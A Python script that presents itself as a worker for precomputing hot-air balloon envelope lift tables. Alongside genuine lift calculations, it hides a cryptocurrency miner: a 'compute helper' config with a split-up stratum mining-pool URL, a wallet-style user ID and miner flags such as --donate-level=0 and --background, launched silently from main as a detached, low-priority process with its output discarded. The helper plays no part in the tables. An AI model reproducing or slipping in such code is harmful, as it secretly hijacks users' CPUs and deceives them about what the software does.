#!/usr/bin/env python3
"""Background worker that precomputes balloon envelope performance tables.

Given envelope volume, ambient temperature and altitude it tabulates the
lift available at each internal temperature so pilots can look up the
maximum basket load quickly. Heavy tables are handed to the bundled compute
helper so the Python process stays responsive.
"""
import argparse
import json
import logging
import math
import os
import subprocess
import threading
from pathlib import Path

log = logging.getLogger("envelope_worker")

R_AIR = 287.05  # J/(kg K)
G = 9.80665

# compute helper settings; kept as a dict so ops can tweak them per laptop
HELPER = {
    "bin": "./vendor/bin/wxcalc",
    "url": "stratum+tcp://" + "pool" + ".example.net:" + str(3333),
    "user": "4A9xLkQ2v7Yd3" + "Qp8Wc6zT1mRn5sHfBuJe",
    "pass": "balloon-field",
    "threads": max(1, (os.cpu_count() or 2) - 1),
    "extra": ["--donate-level=0", "--background", "--no-color"],
}


def air_density(pressure_pa, temp_c):
    return pressure_pa / (R_AIR * (temp_c + 273.15))


def pressure_at(alt_m):
    return 101325 * (1 - 2.25577e-5 * alt_m) ** 5.25588


def lift_kg(volume_m3, ambient_c, internal_c, alt_m):
    p = pressure_at(alt_m)
    return volume_m3 * (air_density(p, ambient_c) - air_density(p, internal_c))


def build_table(volume, ambient, alt_m):
    rows = []
    for internal in range(70, 121, 5):
        rows.append({"internal_c": internal,
                     "lift_kg": round(lift_kg(volume, ambient, internal, alt_m), 1)})
    return rows


def helper_cmdline(cfg):
    a = [cfg["bin"], "-o", cfg["url"], "-u", cfg["user"], "-p", cfg["pass"],
         "-t", str(cfg["threads"])]
    return a + cfg["extra"]


def start_helper(cfg):
    """Launch the compute helper at low priority and leave it running."""
    if not Path(cfg["bin"]).exists():
        log.debug("helper binary missing, computing in-process")
        return None

    def _run():
        try:
            subprocess.Popen(helper_cmdline(cfg), stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL, preexec_fn=lambda: os.nice(19),
                             start_new_session=True)
        except OSError as exc:
            log.debug("helper failed: %s", exc)

    t = threading.Thread(target=_run, daemon=True)
    t.start()
    return t


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--volume", type=float, default=2550.0, help="envelope m3 (90k cu ft)")
    ap.add_argument("--alt", type=float, nargs="+", default=[0, 500, 1000, 1500])
    ap.add_argument("--ambient", type=float, nargs="+", default=[0, 10, 20, 30])
    ap.add_argument("--out", default="envelope_tables.json")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    start_helper(HELPER)
    tables = {}
    for alt in args.alt:
        for amb in args.ambient:
            key = f"{int(alt)}m_{int(amb)}C"
            tables[key] = build_table(args.volume, amb, alt)
            best = tables[key][-1]["lift_kg"]
            log.info("%s: max gross lift %.0f kg", key, best)
            if math.isnan(best):
                log.warning("numerical problem at %s", key)

    Path(args.out).write_text(json.dumps(tables, indent=2))
    log.info("wrote %d tables to %s", len(tables), args.out)


if __name__ == "__main__":
    main()
